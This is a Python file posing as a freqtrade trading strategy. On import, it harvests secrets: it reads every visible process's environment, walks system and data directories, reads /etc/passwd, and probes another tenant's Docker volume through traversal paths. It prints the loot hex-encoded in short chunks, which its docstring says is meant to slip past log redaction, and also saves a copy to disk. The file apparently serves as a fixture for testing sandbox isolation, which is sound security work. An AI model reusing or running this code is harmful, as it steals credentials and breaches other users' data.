"""Hunts for secrets, on import, and exfiltrates what it finds through every channel it has.

Reads the environment of every process it can see, walks the places where data or secrets
could be mounted, tries the host paths of another tenant's volume, and prints all of it
hex-encoded (so no log redaction can hide a find: the test decodes it). It also keeps a copy
in its own volume. The job then runs its backtest as usual, so its result and archive are
produced too.
"""

import json
import os
from pathlib import Path

from freqtrade.strategy import IStrategy
from pandas import DataFrame

PARAMS: dict = {}

ROOTS = [
    "/freqtrade",
    "/candles",
    "/tmp",
    "/var/tmp",
    "/var/lib/docker",
    "/var/spool",
    "/data",
    "/mnt",
    "/srv",
    "/home",
    "/root",
    "/run",
    "/media",
    "/opt/fta",
]
SINGLE_FILES = ["/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/etc/passwd"]
LOOT_FILE = Path("/freqtrade/user_data/loot/loot.txt")
MAX_FILE_BYTES = 64 * 1024
MAX_LOOT_BYTES = 256 * 1024
CHUNK = 16  # bytes per hex word: 32 characters, too short for any redaction pattern
WORDS_PER_LINE = 96


def _report(**data: object) -> None:
    print("PROBE " + json.dumps(data), flush=True)


def _environments() -> dict[str, dict[str, str]]:
    found = {}
    for entry in sorted(Path("/proc").iterdir(), key=lambda p: p.name):
        if not entry.name.isdigit() and entry.name != "self":
            continue
        try:
            raw = (entry / "environ").read_bytes()
        except OSError as exc:
            found[entry.name] = {"(unreadable)": type(exc).__name__}
            continue
        pairs = [item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item]
        found[entry.name] = {
            k.decode(errors="replace"): v.decode(errors="replace") for k, v in pairs
        }
    return found


def _other_volume_paths(tenant: str) -> dict[str, str]:
    results = {}
    for path in (
        f"/var/lib/docker/volumes/fta-data-{tenant}/_data",
        f"/freqtrade/user_data/../../var/lib/docker/volumes/fta-data-{tenant}/_data",
        f"/proc/1/root/var/lib/docker/volumes/fta-data-{tenant}/_data",
        f"/freqtrade/fta-data-{tenant}",
        f"/mnt/fta-data-{tenant}",
    ):
        try:
            results[path] = "listed: " + ",".join(sorted(os.listdir(path)))
        except OSError as exc:
            results[path] = type(exc).__name__
    return results


def _files() -> tuple[list[str], dict[str, bytes]]:
    names, contents, total = [], {}, 0
    candidates = [Path(p) for p in SINGLE_FILES]
    for root in ROOTS:
        for directory, _, files in os.walk(root):
            candidates += [Path(directory, name) for name in files]
    for path in candidates:
        names.append(str(path))
        if path == LOOT_FILE:
            continue
        try:
            if not path.is_file() or path.stat().st_size > MAX_FILE_BYTES:
                continue
            data = path.read_bytes()
        except OSError:
            continue
        if b"\0" not in data and total + len(data) <= MAX_LOOT_BYTES:
            contents[str(path)] = data
            total += len(data)
    return names, contents


def _exfiltrate(loot: bytes) -> None:
    words = [loot[i : i + CHUNK].hex() for i in range(0, len(loot), CHUNK)]
    for start in range(0, len(words), WORDS_PER_LINE):
        print("LOOT " + " ".join(words[start : start + WORDS_PER_LINE]))
    LOOT_FILE.parent.mkdir(parents=True, exist_ok=True)
    LOOT_FILE.write_bytes(loot)


def _hunt() -> None:
    environments = _environments()
    _report(
        probe="environ",
        pid=os.getpid(),
        names={pid: sorted(env) for pid, env in environments.items()},
    )
    other_volume = _other_volume_paths(PARAMS["other_tenant"])
    _report(probe="other-volume", results=other_volume)
    names, contents = _files()
    _report(probe="files", count=len(names), dumped=sorted(contents))
    loot = json.dumps({"environ": environments, "other_volume": other_volume, "files": names})
    parts = [loot.encode()] + [name.encode() + b"\n" + data for name, data in contents.items()]
    _exfiltrate(b"\n".join(parts))
    mountinfo = Path("/proc/self/mountinfo").read_text().splitlines()
    _report(probe="mounts", points=sorted(line.split()[4] for line in mountinfo))


_hunt()


class SecretHunter(IStrategy):
    timeframe = "5m"
    minimal_roi = {"0": 0.01}
    stoploss = -0.1

    def populate_indicators(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        return dataframe

    def populate_entry_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe["enter_long"] = 0
        return dataframe

    def populate_exit_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe["exit_long"] = 0
        return dataframe
